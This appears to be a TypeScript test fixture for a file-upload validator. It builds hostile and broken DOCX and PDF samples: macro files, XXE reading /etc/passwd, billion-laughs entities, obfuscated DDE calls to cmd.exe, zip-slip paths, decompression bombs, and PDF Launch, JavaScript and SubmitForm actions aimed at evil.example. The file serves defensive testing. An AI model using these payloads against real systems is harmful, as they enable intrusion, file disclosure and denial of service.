import { deflateSync } from 'node:zlib'
import { zip } from '#testing/zip.ts'

const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
const relationships = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const contentTypes = `<Types><Override PartName="/main.xml" ContentType="${word}.main+xml"/></Types>`

type Parts = Record<string, string | Buffer>

/** A DOCX that Word opens, with these parts beside or instead of its own. */
export const docx = (parts: Parts = {}, options: Parameters<typeof zip>[1] = {}): Buffer =>
  zip({ '[Content_Types].xml': contentTypes, 'word/document.xml': '<w:document/>', ...parts }, options)

const linked = (kind: string, target: string) =>
  docx({
    'word/_rels/document.xml.rels': `<Relationships><Relationship Id="r1" Type="${relationships}/${kind}" Target="${target}" TargetMode="External"/></Relationships>`,
  })

const related = (relationship: string) =>
  docx({ 'word/_rels/document.xml.rels': `<Relationships>${relationship}</Relationships>` })
const foreignImage = `Id="r1" Type="${relationships}/image" Target="file://evil.example/a.png"`
const written = (body: string) => docx({ 'word/document.xml': `<w:document>${body}</w:document>` })

const hello = '<w:document>Hallo</w:document>'
const entity = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document>&e;</w:document>'
const laughs = `<!DOCTYPE x [<!ENTITY a "ha">${'bcdefghi'.replace(/./g, (name) => `<!ENTITY ${name} "${`&${String.fromCharCode(name.charCodeAt(0) - 1)};`.repeat(10)}">`)}]><w:document>&i;</w:document>`

/** Refused as `file_unsafe`: it would act, or load something, or leave its folder. */
export const unsafeDocx: [string, () => Buffer][] = [
  ['macros', () => docx({ 'word/vbaProject.bin': 'Sub AutoOpen()' })],
  ['macros under a capital name', () => docx({ 'WORD/VBAPROJECT.BIN': 'x' })],
  ['data of macros', () => docx({ 'word/vbaData.xml': '<x/>' })],
  [
    'a part that says it has macros',
    () =>
      docx({
        'word/other.xml': '<Override ContentType="application/vnd.ms-word.template.macroEnabledTemplate"/>',
      }),
  ],
  ['ActiveX', () => docx({ 'word/activeX/activeX1.xml': '<x/>' })],
  ['an embedded object', () => docx({ 'word/embeddings/oleObject1.bin': 'x' })],
  ['a program', () => docx({ 'word/media/image1.exe': 'MZ' })],
  ['a shortcut', () => docx({ 'word/media/Lebenslauf.lnk': 'L' })],
  ['a web page', () => docx({ 'word/afchunk.html': '<script>alert(1)</script>' })],
  ['a foreign template', () => linked('attachedTemplate', 'http://evil.example/t.dotm')],
  ['a foreign image', () => linked('image', 'http://evil.example/pixel.png')],
  ['a file share', () => linked('image', 'file://evil.example/share/a.png')],
  ['a link to a script', () => linked('hyperlink', 'javascript:alert(1)')],
  ['a link to a file', () => linked('hyperlink', 'file:///c:/windows/system32/calc.exe')],
  ['a frame', () => linked('frame', 'https://evil.example')],
  [
    'a foreign image behind a bracket',
    () => related(`<Relationship ${foreignImage} x=">" TargetMode="External"/>`),
  ],
  [
    'a foreign image by a reference',
    () => related(`<Relationship ${foreignImage} TargetMode="Extern&#97;l"/>`),
  ],
  ['a foreign image by a prefix', () => related(`<r:Relationship ${foreignImage} TargetMode="External"/>`)],
  [
    'a foreign image behind a foreign name',
    () => related(`<Relationship ${foreignImage} é="" TargetMode="External"/>`),
  ],
  [
    'a foreign image that also says it is a link',
    () =>
      related(
        `<Relationship ${foreignImage} TargetMode="External" x='Type="/hyperlink"' y='Target="https:"'/>`,
      ),
  ],
  ['an entity of a file (XXE)', () => docx({ 'word/document.xml': entity })],
  ['entities that multiply', () => docx({ 'word/document.xml': laughs })],
  [
    'a document type in its settings',
    () => docx({ 'word/settings.xml': '<!DOCTYPE x SYSTEM "http://e.example">' }),
  ],
  ['XML in UTF-16', () => docx({ 'word/document.xml': Buffer.from(`\ufeff${entity}`, 'utf16le') })],
  ['XML in UTF-7', () => docx({ 'word/document.xml': '<?xml version="1.0" encoding="UTF-7"?><x/>' })],
  ['DDE', () => docx({ 'word/document.xml': '<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>' })],
  ['DDE in two parts', () => written('<w:instrText>DD</w:instrText><w:instrText>EAUTO c:</w:instrText>')],
  ['DDE by a reference', () => written('<w:instrText>D&#68;EAUTO c:</w:instrText>')],
  [
    'DDE behind another field',
    () =>
      written(
        '<w:instrText>PAGE</w:instrText><w:instrText>D</w:instrText><w:instrText>DE "c:"</w:instrText>',
      ),
  ],
  ['DDE by a prefix', () => written('<x:instrText xml:space="preserve"> DDEAUTO c:</x:instrText>')],
  ['DDE in a simple field', () => written('<w:fldSimple w:instr=" DDEAUTO c: "/>')],
  ['DDE behind a bracket', () => written('<w:instrText x=">"><![CDATA[DDEAUTO c:]]></w:instrText>')],
  [
    'an included file',
    () => docx({ 'word/document.xml': '<w:instrText> INCLUDETEXT "http://e"</w:instrText>' }),
  ],
  ['a path upwards (zip slip)', () => docx({ '../../etc/cron.d/x': 'x' })],
  ['a path upwards for Windows', () => docx({ '..\\..\\autostart\\x.xml': 'x' })],
  ['an absolute path', () => docx({ '/etc/passwd': 'x' })],
  ['a drive', () => docx({ 'C:/x.xml': 'x' })],
  ['a name with NUL', () => docx({ 'word/a\u0000.xml': 'x' })],
  ['a bomb', () => docx({ 'word/media/a.dat': Buffer.alloc(110 * 1024 * 1024) }, { deflate: true })],
  [
    'thousands of parts',
    () => docx(Object.fromEntries(Array.from({ length: 2001 }, (_, i) => [`p/${i}`, 'x']))),
  ],
]

/** Refused as `file_unreadable`. */
export const brokenDocx: [string, () => Buffer][] = [
  ['cut off', () => docx().subarray(0, -40)],
  ['without its text', () => zip({ '[Content_Types].xml': contentTypes })],
  ['with something behind it', () => Buffer.concat([docx(), Buffer.from('<script>alert(1)</script>')])],
  ['with a second archive behind it', () => Buffer.concat([docx(), zip({ 'a.html': '<script>' })])],
  ['encrypted', () => docx({}, { flags: 1 })],
  [
    'a bomb that says it is small',
    () => docx({ 'a.dat': Buffer.alloc(9_000_000) }, { deflate: true, claimedSize: 90 }),
  ],
  ['a part that says it is large', () => docx({}, { claimedSize: 5000 })],
]

/** Harmless, and therefore taken. */
export const plainDocx: [string, () => Buffer][] = [
  ['a link to a page', () => linked('hyperlink', 'https://example.org')],
  ['packed text', () => docx({ 'word/document.xml': hello }, { deflate: true })],
  [
    'fields that count',
    () =>
      written(
        '<w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "/><w:instrText xml:space="preserve"> HYPERLINK "https://e.example/include" </w:instrText>',
      ),
  ],
  [
    'a part of its own',
    () => related(`<Relationship Id="r1" Type="${relationships}/image" Target="a.png"/>`),
  ],
]

/** Beginnings without an end: whoever looks at each to the end takes seconds for these, and minutes for a few megabytes. */
export const longDocx: [string, () => Buffer][] = [
  ['relationships', '<Relationship ', 'word/_rels/document.xml.rels'],
  ['fields', '<w:instrText ', 'word/document.xml'],
  ['simple fields', '<w:fldSimple "', 'word/document.xml'],
  ['quotes', `<w:instrText ${'"'}`, 'word/document.xml'],
  ['attributes', 'x="', 'word/_rels/document.xml.rels'],
].map(([name = '', text = '', part = '']) => [
  name,
  () => docx({ [part]: text.repeat(600_000 / text.length) }, { deflate: true }),
])

const pdfOf = (catalog: string, ...objects: string[]): Buffer => {
  const all = [
    `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>',
    ...objects,
  ].map((content, index) => `${index + 1} 0 obj${content}endobj\n`)
  const start = '%PDF-1.7\n'
  const at = all.map((_, index) => start.length + all.slice(0, index).join('').length)
  const table = at.map((each) => `${String(each).padStart(10, '0')} 00000 n \n`).join('')
  const body = start + all.join('')
  return Buffer.from(
    `${body}xref\n0 ${all.length + 1}\n0000000000 65535 f \n${table}trailer<</Size ${all.length + 1}/Root 1 0 R>>\nstartxref\n${body.length}\n%%EOF\n`,
    'latin1',
  )
}

/** Kept as they are, since a certificate may be signed; a browser runs nothing of them (ADR 32). */
export const actingPdfs: [string, () => Buffer][] = [
  ['JavaScript', () => pdfOf('/OpenAction 4 0 R', '<</S/JavaScript/JS(app.alert\\(1\\))>>')],
  ['a program to launch', () => pdfOf('/OpenAction 4 0 R', '<</S/Launch/F(cmd.exe)>>')],
  ['a page to open', () => pdfOf('/OpenAction 4 0 R', '<</S/URI/URI(http://evil.example)>>')],
  ['a form that is sent', () => pdfOf('/OpenAction 4 0 R', '<</S/SubmitForm/F(http://evil.example)>>')],
  [
    'an embedded file',
    () => pdfOf('/Names<</EmbeddedFiles<</Names[(a.exe)4 0 R]>>>>', '<</Type/Filespec/F(a.exe)>>'),
  ],
  ['XFA', () => pdfOf('/AcroForm<</XFA(x)/Fields[]>>')],
  ['a ZIP at its end', () => Buffer.concat([pdfOf(''), zip({ 'a.html': '<script>' })])],
  [
    'a page of HTML in a comment',
    () => Buffer.concat([pdfOf(''), Buffer.from('%<script>alert(1)</script>\n')]),
  ],
]

/** Refused as `file_unreadable`. */
export const brokenPdfs: [string, () => Buffer][] = [
  ['cut off', () => pdfOf('').subarray(0, 60)],
  ['a header only', () => Buffer.from('%PDF-1.7\n')],
  ['no pages', () => Buffer.from('%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF')],
  ['a web page behind a header', () => Buffer.from('%PDF-1.7\n<!doctype html><script>alert(1)</script>')],
  [
    'pages that hold themselves',
    () =>
      Buffer.from(
        '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF',
      ),
  ],
]

const packed = (megabytes: number) => deflateSync(Buffer.alloc(megabytes * 1_000_000), { level: 9 })

/** A page, and streams behind it that a reader looks through for further objects. */
function pdfWithStreams(dictionary: string, data: Buffer, count = 1): Buffer {
  const start = `%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj
`
  const streams = Array.from({ length: count }, (_, index) => [
    Buffer.from(`${index + 4} 0 obj<<${dictionary}/Length ${data.length}>>stream\n`),
    data,
    Buffer.from('\nendstream endobj\n'),
  ])
  const end = `trailer<</Root 1 0 R>>\nstartxref\n${start.length}\n%%EOF\n`
  return Buffer.concat([Buffer.from(start), ...streams.flat(), Buffer.from(end)])
}

const objects = '/Type/ObjStm/N 1/First 4'
const list = '/Type/XRef/Root 1 0 R'

const endless = (dictionary: string) =>
  Buffer.from(
    `%PDF-1.7\n${Array.from({ length: 20_000 }, (_, index) => `${index + 1} 0 obj<<${dictionary}>>stream\n`).join('')}endstream\ntrailer<</Root 1 0 R>>\n%%EOF`,
  )

/** Refused as `file_unreadable`, before they cost what they unpack to. */
export const pdfBombs: [string, () => Buffer][] = [
  ['streams without an end', () => endless('')],
  ['streams as long as another object says', () => endless('/Length 99999 0 R')],
  ['a bomb of objects', () => pdfWithStreams(`${objects}/Filter/FlateDecode`, packed(300))],
  ['many bombs of objects', () => pdfWithStreams(`${objects}/Filter/FlateDecode`, packed(20), 15)],
  [
    'a bomb that ends in the middle',
    () => pdfWithStreams(`${objects}/Filter/FlateDecode`, packed(300).subarray(0, -9)),
  ],
  [
    'a bomb in a bomb',
    () => pdfWithStreams(`${objects}/Filter[/FlateDecode/FlateDecode]`, deflateSync(packed(300))),
  ],
  [
    'a bomb behind letters',
    () =>
      pdfWithStreams(
        `${objects}/Filter[/ASCIIHexDecode/FlateDecode]`,
        Buffer.from(packed(300).toString('hex')),
      ),
  ],
  ['a bomb of runs', () => pdfWithStreams(`${objects}/Filter/RunLengthDecode`, Buffer.alloc(5_000_000, 129))],
  [
    'a fax of any width',
    () =>
      pdfWithStreams(
        `${objects}/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 60000/Rows 60000>>`,
        Buffer.alloc(900),
      ),
  ],
  [
    'a bomb as its list of objects',
    () => pdfWithStreams(`${list}/Size 9/W[1 2 1]/Filter/FlateDecode`, packed(300)),
  ],
  [
    'a list of objects without width',
    () => pdfWithStreams(`${list}/Size 999999999/W[0 0 0]`, Buffer.from('abcd')),
  ],
]
